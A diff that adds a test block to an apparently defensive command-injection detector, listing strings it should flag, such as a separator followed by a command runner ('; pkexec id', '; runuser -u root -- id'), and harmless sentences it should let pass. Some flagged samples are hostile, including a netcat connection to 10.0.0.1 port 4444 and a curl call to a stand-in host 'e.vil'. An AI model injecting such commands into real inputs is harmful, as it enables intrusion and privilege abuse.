@@ -94,3 +94,43 @@ describe('command injection: a file read by substitution', () => {
     true,
   )
 })
+
+/**
+ * More commands that run a command (`setarch`, `faketime`, `unbuffer`, `rlwrap`, `runuser`,
+ * `firejail`, `proxychains`, `torsocks`, `systemd-run`, `valgrind`, `script -c`, `pkexec`), and the
+ * operand some take before it (`taskset 0x1 id`, `chrt 1 id`, `setarch x86_64 id`).
+ */
+describe('command injection: runners and their operands', () => {
+  flagsAndLeaves(
+    [
+      ['; taskset 0x1 id', 'cmd-separator-command'],
+      ['; chrt 1 whoami', 'cmd-separator-command'],
+      ['; chrt -f 1 id', 'cmd-separator-command'],
+      ['; setarch x86_64 id', 'cmd-separator-command'],
+      ["; faketime '2020-01-01' id", 'cmd-separator-command'],
+      ['; timeout -s 9 5 id', 'cmd-separator-command'],
+      ['; unbuffer id', 'cmd-separator-command'],
+      ['; rlwrap nc 10.0.0.1 4444', 'cmd-separator-command'],
+      ['; runuser -u root -- id', 'cmd-separator-command'],
+      ['| firejail id', 'cmd-separator-command'],
+      ['; proxychains curl e.vil', 'cmd-separator-command'],
+      ['&& torsocks id', 'cmd-separator-command'],
+      ['; systemd-run id', 'cmd-separator-command'],
+      ['; linux32 id', 'cmd-separator-command'],
+      ['; valgrind id', 'cmd-separator-command'],
+      ['; script -c id', 'cmd-separator-command'],
+      ['; pkexec id', 'cmd-separator-command'],
+    ],
+    [
+      'we fixed it; script runs fine now',
+      'the movie; script by John Doe',
+      '; script the demo first',
+      '; valgrind is great for leaks',
+      'I ran faketime yesterday; setarch too',
+      'timeout 5 minutes; chrt is fine',
+      'ok; taskset is the tool for that',
+      'the timeout 5 minutes later',
+    ],
+    true,
+  )
+})
